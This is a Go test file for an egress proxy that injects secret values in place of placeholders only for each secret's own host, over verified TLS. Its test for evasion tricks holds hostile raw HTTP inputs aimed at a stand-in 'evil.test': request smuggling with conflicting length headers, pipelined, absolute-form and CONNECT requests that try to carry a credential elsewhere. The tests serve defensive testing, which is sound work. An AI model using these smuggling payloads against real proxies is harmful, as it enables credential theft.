package egress

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/quro-dev/quro/internal/egress/egresstest"
)

// testRoots is a test CA's pool and the certificate it issued for names.
func testRoots(t testing.TB, names ...string) (*x509.CertPool, tls.Certificate) {
	ca, cert := egresstest.CA(t, names...)
	pool := x509.NewCertPool()
	pool.AddCert(ca)
	return pool, cert
}

// secretOrigin is a stand-in server that answers what it received: the
// Authorization header and the query.
func secretOrigin(t *testing.T, cert *tls.Certificate) (*httptest.Server, *sync.Map) {
	var seen sync.Map // every header value and query it received
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for _, vs := range r.Header {
			for _, v := range vs {
				seen.Store(v, true)
			}
		}
		seen.Store(r.URL.RawQuery, true)
		fmt.Fprintf(w, "host=%s auth=%s query=%s", r.Host, r.Header.Get("Authorization"), r.URL.RawQuery)
	}))
	if cert != nil {
		s.TLS = &tls.Config{Certificates: []tls.Certificate{*cert}}
		s.StartTLS()
	} else {
		s.Start()
	}
	t.Cleanup(s.Close)
	return s, &seen
}

// TestTransparentSecrets: a connection to a secret's host is terminated
// with a certificate of the egress's CA, the placeholder in its headers
// and query is replaced with the value, and the destination is verified
// against the roots given; a request without one goes as it is; the
// placeholder sent to a host that is not the secret's (plain HTTP to
// another, or an intercepted host of another secret) is refused and
// logged, and the destination never sees it; an SNI other than the name
// fails the handshake.
func TestTransparentSecrets(t *testing.T) {
	roots, cert := testRoots(t, "api.test", "b.test")
	api, apiSeen := secretOrigin(t, &cert)
	plain, plainSeen := secretOrigin(t, nil)
	pa, pp := port(api.Listener.Addr().String()), port(plain.Listener.Addr().String())
	dir := t.TempDir()
	ca, err := LoadCA(dir)
	if err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(filepath.Join(dir, caKeyFile)); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("CA key: %v %v", fi.Mode(), err)
	}
	if again, err := LoadCA(dir); err != nil || string(again.CertPEM()) != string(ca.CertPEM()) {
		t.Fatalf("the CA was not kept: %v", err)
	}
	const ph, phB = PlaceholderPrefix + "0123456789abcdef", PlaceholderPrefix + "fedcba9876543210"
	secrets := []Secret{
		{Name: "API_KEY", Placeholder: ph, Value: "sk-real-value", Hosts: []Rule{{Domain: "api.test"}}},
		{Name: "B_KEY", Placeholder: phB, Value: "b-real-value", Hosts: []Rule{{Domain: "b.test"}}},
	}
	b := newBox(t, TransparentOptions{
		Trusted: []string{"api.test:" + pa, "b.test:" + pa, "other.test:" + pp},
		Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
		Secrets: func(box string) []Secret { return secrets },
	}, &Policy{Mode: ModeInternet}, nil)
	boxRoots := x509.NewCertPool()
	boxRoots.AppendCertsFromPEM(ca.CertPEM())

	// get sends one request over TLS to name (SNI sni) and reads the answer.
	get := func(name, sni, target string, hdr http.Header) (string, int, error) {
		c := b.dial(name + ":" + pa)
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		tc := tls.Client(c, &tls.Config{ServerName: sni, RootCAs: boxRoots})
		defer tc.Close()
		req, _ := http.NewRequest("GET", "https://"+name+":"+pa+target, nil)
		req.Header = hdr
		req.Close = true
		if err := req.Write(tc); err != nil {
			return "", 0, err
		}
		res, err := http.ReadResponse(bufio.NewReader(tc), req)
		if err != nil {
			return "", 0, err
		}
		defer res.Body.Close()
		body, _ := io.ReadAll(res.Body)
		return string(body), res.StatusCode, nil
	}
	body, code, err := get("api.test", "api.test", "/v1?key="+ph, http.Header{"Authorization": {"Bearer " + ph}})
	if err != nil || code != 200 || !strings.Contains(body, "auth=Bearer sk-real-value") || !strings.Contains(body, "query=key=sk-real-value") {
		t.Fatalf("through the egress: %d %q %v", code, body, err)
	}
	if e := b.event(); e.Decision != Allowed || e.BytesOut == 0 || e.BytesIn == 0 || e.Dest != "api.test:"+pa {
		t.Errorf("event %+v", e)
	}
	body, code, err = get("api.test", "api.test", "/plain", http.Header{"X-Other": {"nothing secret"}})
	if err != nil || code != 200 || !strings.Contains(body, "auth= ") {
		t.Errorf("a request without a placeholder: %d %q %v", code, body, err)
	}
	b.event()

	// Secret API_KEY's placeholder to b.test, which has a secret of its
	// own: refused with the reason, logged.
	body, code, err = get("b.test", "b.test", "/", http.Header{"Authorization": {"Bearer " + ph}})
	if err != nil || code != http.StatusForbidden || !strings.Contains(body, "placeholder of secret API_KEY") {
		t.Errorf("API_KEY's placeholder to b.test: %d %q %v", code, body, err)
	}
	if e := b.event(); e.Decision != Denied || !strings.Contains(e.Reason, "secret API_KEY") {
		t.Errorf("event %+v", e)
	}
	b.event() // the connection's own

	// A ClientHello for another name than the box's resolved one.
	if _, _, err := get("api.test", "b.test", "/", http.Header{}); err == nil {
		t.Error("an SNI other than the name was served")
	}
	b.event()

	// Plain HTTP carrying the placeholder to a host without a secret.
	c := b.dial("other.test:" + pp)
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "GET /?k=%s HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n", ph)
	if got, _ := io.ReadAll(c); len(got) != 0 {
		t.Errorf("the placeholder reached other.test: %q", got)
	}
	if e := b.event(); e.Decision != Denied || !strings.Contains(e.Reason, "placeholder of secret API_KEY") || !strings.Contains(e.Reason, "not to other.test") {
		t.Errorf("event %+v", e)
	}
	for _, seen := range []*sync.Map{apiSeen, plainSeen} {
		seen.Range(func(k, _ any) bool {
			if strings.Contains(k.(string), PlaceholderPrefix) || strings.Contains(k.(string), "b-real-value") {
				t.Errorf("a destination saw %q", k)
			}
			return true
		})
	}
	if _, ok := apiSeen.Load("Bearer sk-real-value"); !ok {
		t.Error("the stand-in never saw the value")
	}
}

// TestTransparentSecretsUpstreamVerified: the egress connects to the
// secret's host only if its certificate verifies against the roots: a
// pool without its CA, and nil (the system's roots, app's default when no
// upstream CA is added), which do not hold the test's CA either.
func TestTransparentSecretsUpstreamVerified(t *testing.T) {
	for name, roots := range map[string]*x509.CertPool{"empty pool": x509.NewCertPool(), "system roots": nil} {
		t.Run(name, func(t *testing.T) { testUpstreamVerified(t, roots) })
	}
}

func testUpstreamVerified(t *testing.T, roots *x509.CertPool) {
	_, cert := testRoots(t, "api.test")
	api, seen := secretOrigin(t, &cert)
	pa := port(api.Listener.Addr().String())
	ca, err := LoadCA(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b := newBox(t, TransparentOptions{
		Trusted: []string{"api.test:" + pa}, Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
		Secrets: func(string) []Secret {
			return []Secret{{Name: "K", Placeholder: PlaceholderPrefix + "00", Value: "v", Hosts: []Rule{{Domain: "api.test"}}}}
		},
	}, &Policy{Mode: ModeInternet}, nil)
	boxRoots := x509.NewCertPool()
	boxRoots.AppendCertsFromPEM(ca.CertPEM())
	c := b.dial("api.test:" + pa)
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	tc := tls.Client(c, &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: %s00\r\nConnection: close\r\n\r\n", PlaceholderPrefix)
	res, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil || res.StatusCode != http.StatusBadGateway {
		t.Fatalf("an unverified destination: %v %v", res, err)
	}
	n := 0
	seen.Range(func(any, any) bool { n++; return true })
	if n != 0 {
		t.Error("the unverified destination got the request")
	}
}

// BenchmarkTransparentSecretRequest is one HTTPS request on a new
// connection through the egress: to a host without a secret (relayed by
// SNI) and to a secret's host (TLS terminated, the request re-sent with
// the value, the destination verified).
func BenchmarkTransparentSecretRequest(b *testing.B) {
	roots, cert := testRoots(b, "api.test", "plain.test")
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") }))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	srv.StartTLS()
	defer srv.Close()
	p := port(srv.Listener.Addr().String())
	ca, err := LoadCA(b.TempDir())
	if err != nil {
		b.Fatal(err)
	}
	secrets := []Secret{{Name: "K", Placeholder: PlaceholderPrefix + "00", Value: "value", Hosts: []Rule{{Domain: "api.test"}}}}
	bx := newBox(b, TransparentOptions{Trusted: []string{"api.test:" + p, "plain.test:" + p}, Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
		Secrets: func(string) []Secret { return secrets }}, &Policy{Mode: ModeInternet}, nil)
	done := make(chan struct{})
	defer close(done)
	go func() {
		for {
			select {
			case <-bx.events:
			case <-done:
				return
			}
		}
	}()
	trust := roots.Clone()
	trust.AppendCertsFromPEM(ca.CertPEM())
	for _, name := range []string{"plain.test", "api.test"} {
		b.Run(name, func(b *testing.B) {
			for range b.N {
				c := bx.dial(name + ":" + p)
				tc := tls.Client(c, &tls.Config{ServerName: name, RootCAs: trust})
				fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: %s00\r\nConnection: close\r\n\r\n", name, PlaceholderPrefix)
				res, err := http.ReadResponse(bufio.NewReader(tc), nil)
				if err != nil || res.StatusCode != 200 {
					b.Fatal(res, err)
				}
				io.Copy(io.Discard, res.Body)
				tc.Close()
			}
		})
	}
}

// TestTransparentSecretsTricks: what code in a box could try on a
// connection to its secret's host to get the value sent elsewhere or
// back: a Host a front end could read as another host (a port that is
// not a number, a list), TRACE (the destination echoes the request),
// plain HTTP (the value in the clear on the network), and a Host in
// another spelling (the destination gets the name itself).
func TestTransparentSecretsTricks(t *testing.T) {
	roots, cert := testRoots(t, "api.test")
	var hosts sync.Map // every Host the destination got
	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hosts.Store(r.Host, true)
		fmt.Fprintf(w, "method=%s host=%s auth=%s", r.Method, r.Host, r.Header.Get("Authorization"))
	}))
	api.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	api.StartTLS()
	t.Cleanup(api.Close)
	plain, plainSeen := secretOrigin(t, nil)
	pa, pp := port(api.Listener.Addr().String()), port(plain.Listener.Addr().String())
	ca, err := LoadCA(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	const ph = PlaceholderPrefix + "0123456789abcdef"
	secrets := []Secret{{Name: "API_KEY", Placeholder: ph, Value: "sk-real-value", Hosts: []Rule{{Domain: "api.test"}}}}
	b := newBox(t, TransparentOptions{
		Trusted: []string{"api.test:" + pa, "api.test:" + pp}, Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
		Secrets: func(string) []Secret { return secrets },
	}, &Policy{Mode: ModeInternet}, nil)
	go func() {
		for range b.events {
		}
	}()
	boxRoots := x509.NewCertPool()
	boxRoots.AppendCertsFromPEM(ca.CertPEM())
	// send writes head (Authorization: the placeholder) to api.test, over
	// TLS or not, and reads the answer.
	send := func(secure bool, p, method, host string) (int, string) {
		t.Helper()
		var c net.Conn = b.dial("api.test:" + p)
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		if secure {
			c = tls.Client(c, &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
		}
		defer c.Close()
		fmt.Fprintf(c, "%s / HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", method, host, ph)
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("%s Host %s: %v", method, host, err)
		}
		defer res.Body.Close()
		body, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(body)
	}
	for _, h := range []string{"api.test:evil.test", "api.test:" + pa + ",evil.test", "api.test:1" + pa + "0"} {
		if code, body := send(true, pa, "GET", h); code != http.StatusForbidden {
			t.Errorf("Host %q: %d %q", h, code, body)
		}
	}
	for _, m := range []string{"TRACE", "trace", "TRACK"} {
		if code, body := send(true, pa, m, "api.test"); code != http.StatusForbidden {
			t.Errorf("%s: %d %q", m, code, body)
		}
	}
	if code, body := send(false, pp, "GET", "api.test"); code != http.StatusForbidden || !strings.Contains(body, "only over TLS") {
		t.Errorf("the placeholder in plain HTTP: %d %q", code, body)
	}
	plainSeen.Range(func(k, _ any) bool {
		if strings.Contains(k.(string), "sk-real-value") || strings.Contains(k.(string), PlaceholderPrefix) {
			t.Errorf("plain HTTP carried %q", k)
		}
		return true
	})
	// Smuggling and pipelining on one connection: a second request to
	// another host, hidden in a body whose length reads two ways, or
	// written after the first, is read by the egress as a request of its
	// own and refused; absolute-form names its own host, CONNECT and
	// HTTP/1.0 without Host are refused.
	for _, raw := range []string{
		"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: api.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
		"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
		"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
		"GET / HTTP/1.0\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
	} {
		c := tls.Client(b.dial("api.test:"+pa), &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		io.WriteString(c, raw)
		got, _ := io.ReadAll(c)
		c.Close()
		if strings.Contains(string(got), "sk-real-value") || strings.Contains(string(got), "evil.test auth") {
			t.Errorf("%q: %q", raw, got)
		}
	}
	hosts.Range(func(k, _ any) bool {
		if strings.Contains(k.(string), "evil") {
			t.Errorf("the destination got Host %q", k)
		}
		return true
	})
	hosts.Clear()
	// Another spelling of the name: the destination gets the name.
	if code, body := send(true, pa, "GET", "API.Test.:"+pa); code != 200 || !strings.Contains(body, "host=api.test:"+pa+" ") || !strings.Contains(body, "auth=Bearer sk-real-value") {
		t.Errorf("Host in capitals with a dot: %d %q", code, body)
	}
	hosts.Range(func(k, _ any) bool {
		if k.(string) != "api.test:"+pa {
			t.Errorf("the destination got Host %q", k)
		}
		return true
	})
}

// TestParseSecretHost: a wildcard over a top-level domain is refused.
func TestParseSecretHost(t *testing.T) {
	for _, h := range []string{"*.com", "*.test.", "api.test:443", "1.2.3.4", "*"} {
		if _, err := ParseSecretHost(h); err == nil {
			t.Errorf("%q taken", h)
		}
	}
	for _, h := range []string{"api.test", "*.example.com", "localhost"} {
		if _, err := ParseSecretHost(h); err != nil {
			t.Errorf("%q: %v", h, err)
		}
	}
}

// TestTransparentSecretRemovedOnOpenConnection: once a secret is
// removed, a connection the box kept open to its host gets its value no
// more (the placeholder goes as it is).
func TestTransparentSecretRemovedOnOpenConnection(t *testing.T) {
	roots, cert := testRoots(t, "api.test")
	api, _ := secretOrigin(t, &cert)
	pa := port(api.Listener.Addr().String())
	ca, err := LoadCA(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	const ph = PlaceholderPrefix + "0123456789abcdef"
	var cur sync.Map
	cur.Store("s", []Secret{{Name: "API_KEY", Placeholder: ph, Value: "sk-real-value", Hosts: []Rule{{Domain: "api.test"}}}})
	b := newBox(t, TransparentOptions{
		Trusted: []string{"api.test:" + pa}, Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
		Secrets: func(string) []Secret { v, _ := cur.Load("s"); return v.([]Secret) },
	}, &Policy{Mode: ModeInternet}, nil)
	go func() {
		for range b.events {
		}
	}()
	boxRoots := x509.NewCertPool()
	boxRoots.AppendCertsFromPEM(ca.CertPEM())
	c := tls.Client(b.dial("api.test:"+pa), &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	defer c.Close()
	br := bufio.NewReader(c)
	get := func() string {
		t.Helper()
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n", ph)
		res, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		body, _ := io.ReadAll(res.Body)
		return string(body)
	}
	if body := get(); !strings.Contains(body, "auth=Bearer sk-real-value") {
		t.Fatalf("before: %q", body)
	}
	cur.Store("s", []Secret{})
	if body := get(); strings.Contains(body, "sk-real-value") {
		t.Errorf("the removed secret's value was sent on the open connection: %q", body)
	}
}
